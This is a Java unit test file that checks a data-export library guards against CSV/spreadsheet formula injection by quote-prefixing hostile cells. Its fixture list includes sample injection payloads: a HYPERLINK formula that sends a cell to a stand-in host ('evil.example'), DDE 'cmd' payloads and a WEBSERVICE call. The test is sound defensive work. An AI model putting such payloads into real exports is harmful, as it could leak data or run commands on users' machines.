package io.lethe.dsar.export;

import static io.lethe.dsar.export.ExportPackages.csvRecords;
import static io.lethe.dsar.export.ExportPackages.parseCsv;
import static io.lethe.dsar.export.ExportPackages.unzip;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.lethe.core.audit.AuditLog;
import io.lethe.core.audit.JdbcAuditStorage;
import io.lethe.core.policy.IdentifierType;
import io.lethe.core.spi.RecordKey;
import io.lethe.core.subject.SubjectRef;
import io.lethe.testkit.MutableClock;
import io.lethe.testkit.store.InMemoryStore;
import java.io.ByteArrayOutputStream;
import java.math.BigDecimal;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.h2.jdbcx.JdbcDataSource;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/**
 * Text a subject typed in (a username, a delivery note) must not run as a spreadsheet formula when
 * the subject opens the CSV of their export: such cells start with {@code '}.
 */
class CsvInjectionTest {

  static final Instant T0 = Instant.parse("2025-06-01T08:00:00Z");
  static final ObjectMapper JSON = new ObjectMapper();

  /** Text that a spreadsheet would evaluate, and the characters that make CSV quote a cell. */
  static final List<String> HOSTILE =
      List.of(
          "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for your refund\")",
          "+cmd|' /C calc'!A0",
          "-2+3",
          "@SUM(1+9)*cmd|' /C calc'!A0",
          "\t=1",
          "\r=1+1",
          "=\"quoted\",with,\"commas\"",
          "-line one\r\nline two",
          "=1\n=2",
          "'=looks guarded already",
          "''+twice");

  /** Text that merely contains those characters further in, which stays as it is. */
  static final List<String> HARMLESS =
      List.of("a=b+c-d@e", "1,2", "say \"hi\"", "two\nlines", " =1", "'quoted", "''", "'", "");

  InMemoryStore notes;
  AccessExporter exporter;

  @BeforeEach
  void setUp() {
    MutableClock clock = MutableClock.at("2026-03-01T10:00:00Z");
    AuditLog audit =
        AuditLog.create(
            JdbcAuditStorage.of(h2("notes")).createTableIfMissing(),
            AccessExporterTest.HASHER,
            clock);
    notes =
        InMemoryStore.builder("notes")
            .category("user.account")
            .subject("account_id", IdentifierType.ACCOUNT_ID)
            .field("note", "user.account.username")
            .field("amount", "user.financial.transaction")
            .build();
    List<String> texts = new ArrayList<>(HOSTILE);
    texts.addAll(HARMLESS);
    for (int i = 0; i < texts.size(); i++) {
      Map<String, Object> row = new HashMap<>();
      row.put("account_id", "a-1");
      row.put("note", texts.get(i));
      row.put("amount", i % 2 == 0 ? (Object) (-1000L - i) : new BigDecimal("-42.50"));
      row.put("collected", T0);
      notes.insert(RecordKey.of((long) i), row);
    }
    // somebody else's hostile text, which must not show up at all
    notes.insert(
        RecordKey.of(99L),
        Map.of("account_id", "b-2", "note", "=WEBSERVICE(\"x\")", "amount", 1L, "collected", T0));
    exporter =
        AccessExporter.builder(AccessExporterTest.policy())
            .stores(notes)
            .audit(audit)
            .clock(clock)
            .build();
  }

  @ParameterizedTest
  @EnumSource(
      value = ExportFormat.class,
      names = {"CSV_ZIP", "ZIP"})
  void text_starting_like_a_formula_is_prefixed_with_a_quote_and_still_parses_as_csv(
      ExportFormat format) {
    // GIVEN the subject's notes, hostile and harmless, with negative amounts
    ByteArrayOutputStream out = new ByteArrayOutputStream();

    // WHEN their CSV export is written
    exporter.export(SubjectRef.account("a-1"), out, format);
    String csv = unzip(out.toByteArray()).get("csv/user.account/notes.csv");

    // THEN every hostile note comes back guarded, as one cell, with the rest of it intact
    List<Map<String, String>> rows = csvRecords(csv);
    assertThat(rows).hasSize(HOSTILE.size() + HARMLESS.size());
    for (int i = 0; i < HOSTILE.size(); i++) {
      String cell = rows.get(i).get("note");
      assertThat(cell).as("note %s", i).isEqualTo("'" + HOSTILE.get(i));
      assertThat(cell.charAt(0)).isEqualTo('\'');
    }
    // AND text that does not start like a formula is exactly what was stored
    for (int i = 0; i < HARMLESS.size(); i++) {
      assertThat(rows.get(HOSTILE.size() + i).get("note")).isEqualTo(HARMLESS.get(i));
    }
    // AND taking one quote off every cell that starts with quotes and a formula character gives
    // back exactly what was stored, whatever it was
    List<String> stored = new ArrayList<>(HOSTILE);
    stored.addAll(HARMLESS);
    assertThat(rows)
        .extracting(
            row -> {
              String cell = row.get("note");
              return cell.matches("(?s)'+[=+\\-@\t\r].*") ? cell.substring(1) : cell;
            })
        .containsExactlyElementsOf(stored);
    // AND no cell of the file, quoted or not, starts with a formula character
    for (List<String> row : parseCsv(csv)) {
      for (String cell : row) {
        if (!cell.isEmpty() && !cell.matches("-?[0-9]+(\\.[0-9]+)?")) {
          assertThat("=+-@\t\r").doesNotContain(cell.substring(0, 1));
        }
      }
    }
    // AND nobody else's note is there
    assertThat(csv).doesNotContain("WEBSERVICE");
  }

  @Test
  void numbers_stay_numbers_even_when_negative() {
    ByteArrayOutputStream out = new ByteArrayOutputStream();

    exporter.export(SubjectRef.account("a-1"), out, ExportFormat.CSV_ZIP);

    List<Map<String, String>> rows =
        csvRecords(unzip(out.toByteArray()).get("csv/user.account/notes.csv"));
    assertThat(rows.get(0).get("amount")).isEqualTo("-1000");
    assertThat(rows.get(1).get("amount")).isEqualTo("-42.50");
    assertThat(rows.get(2).get("amount")).isEqualTo("-1002");
    assertThat(rows).extracting(row -> row.get("amount")).allMatch(a -> a.startsWith("-"));
  }

  @Test
  void the_json_document_keeps_the_stored_text_unguarded() throws Exception {
    ByteArrayOutputStream out = new ByteArrayOutputStream();

    exporter.export(SubjectRef.account("a-1"), out, ExportFormat.JSON);

    JsonNode records = JSON.readTree(out.toByteArray()).get("records");
    for (int i = 0; i < HOSTILE.size(); i++) {
      assertThat(records.get(i).at("/fields/note").asText()).isEqualTo(HOSTILE.get(i));
    }
    assertThat(records.get(0).at("/fields/amount").isIntegralNumber()).isTrue();
  }

  @Test
  void a_field_name_that_starts_like_a_formula_is_guarded_in_the_header() {
    InMemoryStore odd =
        InMemoryStore.builder("odd")
            .category("user.account")
            .subject("account_id", IdentifierType.ACCOUNT_ID)
            .field("=cmd", "user.account.username")
            .field("-", "user.account.username")
            .build();
    odd.insert(
        RecordKey.of(1L), Map.of("account_id", "a-1", "=cmd", "+x", "-", "plain", "collected", T0));
    AccessExporter oddExporter =
        AccessExporter.builder(AccessExporterTest.policy())
            .stores(odd)
            .audit(
                AuditLog.create(
                    JdbcAuditStorage.of(h2("odd")).createTableIfMissing(),
                    AccessExporterTest.HASHER,
                    MutableClock.at("2026-03-01T10:00:00Z")))
            .build();
    ByteArrayOutputStream out = new ByteArrayOutputStream();

    oddExporter.export(SubjectRef.account("a-1"), out, ExportFormat.CSV_ZIP);

    List<List<String>> rows = parseCsv(unzip(out.toByteArray()).get("csv/user.account/odd.csv"));
    assertThat(rows.get(0)).containsExactly("'=cmd", "'-", "anchor:collected", "other_fields");
    assertThat(rows.get(1)).containsExactly("'+x", "plain", T0.toString(), "");
  }

  private static JdbcDataSource h2(String name) {
    JdbcDataSource dataSource = new JdbcDataSource();
    dataSource.setURL("jdbc:h2:mem:csv-" + name + "-" + System.nanoTime() + ";DB_CLOSE_DELAY=-1");
    return dataSource;
  }
}
